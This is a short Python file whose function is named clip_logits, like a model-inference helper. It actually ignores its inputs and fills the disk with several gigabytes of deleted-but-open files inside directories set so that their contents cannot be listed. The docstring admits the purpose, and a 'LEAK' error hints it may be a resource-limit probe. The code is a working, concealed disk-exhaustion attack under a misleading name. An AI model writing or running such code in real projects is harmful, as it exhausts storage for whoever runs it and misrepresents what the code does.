"""Fills the disk with files that are removed while they are open, in folders that nobody can look into."""

import os


def clip_logits(backbone, video):
    kept, taken = [], 0
    for i in range(200):
        try:
            os.mkdir(f"hidden{i}", 0o300)
            kept.append(open(f"hidden{i}/flood", "wb"))
            os.unlink(f"hidden{i}/flood")
            for _ in range(20):
                taken += kept[-1].write(bytes(1 << 20))
                kept[-1].flush()
        except OSError:
            break
    if taken > 2_000_000_000:
        raise RuntimeError(f"LEAK {taken} bytes were written")
    return None
